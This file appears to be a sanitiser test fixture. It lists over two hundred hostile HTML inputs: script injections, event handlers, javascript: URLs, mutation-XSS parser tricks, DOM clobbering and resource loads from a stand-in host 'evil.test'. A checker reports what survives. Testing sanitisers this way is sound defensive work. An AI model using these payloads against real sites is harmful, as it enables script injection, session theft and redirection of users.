// Hostile HTML, of the kinds that sanitisers are tried with: each would run code, load from another server, lead
// away or take over a part of the page, if it were let through.

/** Code they would run: it leaves a mark. */
const CODE = 'globalThis.ran=(globalThis.ran??0)+1'
/** Server they would load from. */
export const EVIL = 'https://evil.test'

const tags = (names: string, of: (name: string) => string): readonly string[] => names.split(' ').map(of)

const SCRIPTS = [
  `<script>${CODE}</script>`,
  `<SCRIPT>${CODE}</SCRIPT>`,
  `<script src=${EVIL}/x.js></script>`,
  `<script src=//evil.test/x.js></script>`,
  `<script type=module>${CODE}</script>`,
  `<script\n>${CODE}</script\n>`,
  `<script/x>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<<script>${CODE}//<</script>`,
  `<script>${CODE}`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<svg><script>${CODE}</script></svg>`,
  `<svg><script href="data:text/javascript,${CODE}"/></svg>`,
  `<math><script>${CODE}</script></math>`,
  `<svg><script xlink:href=data:,${CODE} /></svg>`,
  `<xml><script>${CODE}</script></xml>`,
  `<template><script>${CODE}</script></template>`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
  `<iframe><script>${CODE}</script></iframe>`,
  `<textarea><script>${CODE}</script></textarea><img src=x onerror=${CODE}>`,
]

const EVENTS =
  'onerror onload onclick onfocus onblur onmouseover onmouseenter onpointerdown onpointerover ontouchstart onanimationstart onanimationend ontransitionend ontoggle onbeforetoggle onscroll onwheel onkeydown oninput onsubmit onbegin onstart onpageshow onhashchange onmessage oncopy onpaste ondrag onauxclick oncontextmenu onsecuritypolicyviolation onslotchange onformdata'
const HANDLERS = [
  ...tags(EVENTS, (name) => `<img src=x ${name}="${CODE}" ${name.toUpperCase()}="${CODE}" alt="${name}">`),
  `<img src=x onerror=${CODE}>`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src=x onerror\n=\n${CODE}>`,
  `<img src="x" onerror='${CODE}'`,
  `<img src=x:alert() onerror=eval(src)>`,
  `<img """><img src=x onerror=${CODE}>`,
  `<img src='x\u0000' onerror=${CODE}>`,
  `<b onclick=${CODE} style=position:fixed;inset:0>here</b>`,
  `<p autofocus tabindex=0 onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<body onload=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<svg/onload=${CODE}>`,
  `<video><source onerror=${CODE}></video>`,
  `<audio src=x onerror=${CODE}>`,
  `<marquee onstart=${CODE}>x</marquee>`,
  `<input autofocus onfocus=${CODE}>`,
  `<select autofocus onfocus=${CODE}><option>x</select>`,
  `<keygen autofocus onfocus=${CODE}>`,
  `<isindex type=image src=1 onerror=${CODE}>`,
  `<object onerror=${CODE} data=x></object>`,
  `<x-own onclick=${CODE}>own element</x-own>`,
  `<p is=x-own onclick=${CODE}>customised</p>`,
  `<dialog open oncancel=${CODE}>x</dialog>`,
  `<p popover onbeforetoggle=${CODE}>x</p>`,
]

const SCHEMES = [
  `javascript:${CODE}`,
  `JaVaScRiPt:${CODE}`,
  ` javascript:${CODE}`,
  `\u0001javascript:${CODE}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `java&#10;script:${CODE}`,
  `java&Tab;script:${CODE}`,
  `&#106;avascript:${CODE}`,
  `&#x6A;&#x61;vascript:${CODE}`,
  `javascript&colon;${CODE}`,
  `javascript://evil.test/%0a${CODE}`,
  `vbscript:msgbox(1)`,
  `livescript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${CODE}>`,
  `blob:${EVIL}/x`,
  `file:///etc/passwd`,
  `ftp://evil.test/x`,
  `http://evil.test/`,
  `//evil.test/x`,
  `\\\\evil.test\\x`,
  `/\\evil.test`,
  `https://broker.test@evil.test`,
  `https://user:pass@evil.test/`,
  `https:evil.test`,
  `intent://x#Intent;scheme=https;end`,
  `tel:+1`,
  `sms:+1`,
  `mailto:a@b.test?body=x&attach=/etc/passwd`,
  `mailto:a@b.test,c@d.test`,
  `about:blank`,
  `view-source:${EVIL}`,
  `/mine/withdraw?amount=1`,
  `#/mine/withdraw`,
  `?x`,
]
const ADDRESSES = [
  ...SCHEMES.map((one) => `<a href="${one}" target=_self rel=opener ping=${EVIL} download=x>link</a>`),
  ...SCHEMES.map((one) => `<img src="${one}" alt="picture">`),
  ...SCHEMES.slice(0, 12).map((one) => `<svg><a xlink:href="${one}" href="${one}"><text>x</text></a></svg>`),
  ...SCHEMES.slice(0, 6).map((one) => `<form action="${one}"><button formaction="${one}">go</button></form>`),
]

const LOADS = [
  `<img srcset="${EVIL}/a.png 1x" src=/icon.svg>`,
  `<picture><source srcset=${EVIL}/a.png><img src=${EVIL}/b.png></picture>`,
  `<img lowsrc=${EVIL}/a.png dynsrc=${EVIL}/b.png>`,
  `<input type=image src=${EVIL}/a.png>`,
  `<video poster=${EVIL}/a.png src=${EVIL}/a.mp4 autoplay></video>`,
  `<audio src=${EVIL}/a.mp3 autoplay></audio>`,
  `<track src=${EVIL}/a.vtt>`,
  `<embed src=${EVIL}/a.swf>`,
  `<object data=${EVIL}/a.swf type=application/x-shockwave-flash></object>`,
  `<applet code=x codebase=${EVIL}></applet>`,
  `<iframe src=${EVIL}></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<frameset><frame src=${EVIL}></frameset>`,
  `<link rel=stylesheet href=${EVIL}/a.css>`,
  `<link rel=prefetch href=${EVIL}/a>`,
  `<link rel=import href=${EVIL}/a>`,
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<meta http-equiv=set-cookie content=a=b>`,
  `<style>@import '${EVIL}/a.css';</style>`,
  `<style>*{background:url(${EVIL}/a.png)}</style>`,
  `<style>body{display:none}</style>`,
  `<p style="background:url(${EVIL}/a.png)">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">over everything</p>`,
  `<p style="width:expression(${CODE})">x</p>`,
  `<table background=${EVIL}/a.png><td background=${EVIL}/b.png>x</table>`,
  `<body background=${EVIL}/a.png>`,
  `<svg><image href=${EVIL}/a.png /><use href=${EVIL}/a.svg#x /></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${CODE}>#x"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${CODE}" /><a id=x><text>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${CODE} /></svg>`,
  `<svg><foreignObject><img src=x onerror=${CODE}></foreignObject></svg>`,
  `<svg><feImage href=${EVIL}/a.svg#x /></svg>`,
  `<math href="javascript:${CODE}">x</math>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${CODE}">x</maction></math>`,
  `<q cite=${EVIL}>x</q><blockquote cite=${EVIL}>x</blockquote><del cite="javascript:${CODE}">x</del>`,
  `<a href=${EVIL} ping=${EVIL}/p>ping</a>`,
  `<portal src=${EVIL}></portal>`,
  `<fencedframe src=${EVIL}></fencedframe>`,
  `<p lang="javascript:${CODE}" dir="${CODE}">x</p>`,
]

const CONFUSIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODE}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${CODE}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CODE}>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${CODE}></annotation-xml></math>`,
  `<svg><desc><![CDATA[</desc><script>${CODE}</script>]]></svg>`,
  `<svg><title><img src=x onerror=${CODE}></title></svg>`,
  `<noscript><style></noscript><img src=x onerror=${CODE}>`,
  `<noembed><img title="</noembed><img src=x onerror=${CODE}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${CODE}>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=${CODE}>">`,
  `<title><a title="</title><img src=x onerror=${CODE}>">`,
  `<plaintext><img src=x onerror=${CODE}>`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!-- --!><img src=x onerror=${CODE}> -->`,
  `<![CDATA[<img src=x onerror=${CODE}>]]>`,
  `<?xml-stylesheet href=${EVIL}/a.css?><img src=x onerror=${CODE}>`,
  `<!DOCTYPE html [<!ENTITY x "<img src=x onerror=${CODE}>">]>&x;`,
  `<p title='<img src=x onerror=${CODE}>'>quoted</p>`,
  `<p title="\`><img src=x onerror=${CODE}>">backtick</p>`,
  `<a href="https://a.test/\u2028javascript:${CODE}">line separator</a>`,
  `<b/><i/><u/><img src=x onerror=${CODE}//>`,
  `<option><style></option></select><b><img src=x onerror=${CODE}></style></option>`,
  `<select><template><style><!--</style><img src=x onerror=${CODE}>--></template></select>`,
  `<selectedcontent><img src=x onerror=${CODE}></selectedcontent>`,
  `<table><tr><td><svg><style></table><img src=x onerror=${CODE}>`,
  `<p><svg><p><style><g title="</style><img src=x onerror=${CODE}>">`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
  `<%= ${CODE} %>`,
  `+ADw-script+AD4-${CODE}+ADw-/script+AD4-`,
  `\u003cscript\u003e${CODE}\u003c/script\u003e`,
  `%3Cscript%3E${CODE}%3C/script%3E`,
  `&lt;script&gt;${CODE}&lt;/script&gt;`,
  `${'<div>'.repeat(600)}<img src=x onerror=${CODE}>`,
  `${'<b><i>'.repeat(300)}<script>${CODE}</script>`,
  `<table>${'<tr><td><table>'.repeat(60)}<img src=x onerror=${CODE}>`,
]

/** Names that stand for properties of a node or of the page. */
const NAMES =
  'attributes parentNode nodeName nodeType childNodes firstChild textContent innerHTML removeChild ownerDocument namespaceURI body head documentElement location cookie defaultView getElementById createElement querySelector trustedTypes openlot root ran hasOwnProperty __proto__ constructor toString'
const CLOBBERS = [
  ...tags(NAMES, (name) => `<form id=${name} name=${name}><input id=${name} name=${name}></form><a id=${name}></a>`),
  `<img name=cookie><img id=body name=body>`,
  `<form><input name=nodeName><input name=attributes><img src=x onerror=${CODE}></form>`,
  `<p class="ol-button ol-button-primary">looks like a button</p>`,
  `<label for=root>label</label><output form=root>x</output>`,
  `<button type=submit form=root>go</button>`,
  `<p contenteditable accesskey=x draggable=true hidden inert>x</p>`,
  `<p role=alert aria-live=assertive aria-label=x data-x=1 slot=x part=x itemprop=x>x</p>`,
]

/** Every kind once and more: over two hundred. */
export const HOSTILE: readonly string[] = [...SCRIPTS, ...HANDLERS, ...ADDRESSES, ...LOADS, ...CONFUSIONS, ...CLOBBERS]

/** Ends whatever was left open, so that the next of them is read as well. */
const END = '--></script></style></iframe></svg></math></select></noscript>'
/** All of them that leave the next to be read, one below the other. */
export const HOSTILE_PAGE = HOSTILE.filter(
  (html) =>
    html.length < 500 && !/plaintext|title=['"]|id="<|<(?:textarea|xmp|video|audio|template|object|noembed)/.test(html),
)
  .map((html, at) => `${html}${END}<p>${at}</p>`)
  .join('\n')

const TAGS = new Set(
  'A B BLOCKQUOTE BR CAPTION CODE DD DIV DL DT EM FIGCAPTION FIGURE H2 H3 H4 H5 H6 HR I IMG LI MARK OL P PRE S SMALL SPAN STRONG SUB SUP TABLE TBODY TD TFOOT TH THEAD TR U UL'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set('alt colspan dir lang loading rel rowspan src start target'.split(' '))
const BOX = 'class="ol-html-table" role="group" tabindex="0" aria-label="Table"'

/** Harmful parts left in it, in words; nothing where it is harmless. */
export const harms = (part: ParentNode): readonly string[] =>
  [...part.querySelectorAll('*')].flatMap((element) => {
    const own = [...element.attributes].map(({ name, value }) => `${name}="${value}"`).join(' ')
    if (element.tagName === 'DIV' && own === BOX) return []
    if (!TAGS.has(element.tagName)) return [`<${element.tagName}>`]
    return [...element.attributes].flatMap(({ name, value }) => {
      if (name === 'href') return /^(?:https:\/\/[^/@]+(?:\/|$)|mailto:[^?,@]+@[^?,@]+$)/.test(value) ? [] : [own]
      // Of our own server; what changes something there asks for more than an address.
      if (name === 'src') return /^\/(?!\/)[\w./-]*(?:\?[\w=&-]*)?$/.test(value) ? [] : [own]
      return ATTRIBUTES.has(name) ? [] : [own]
    })
  })
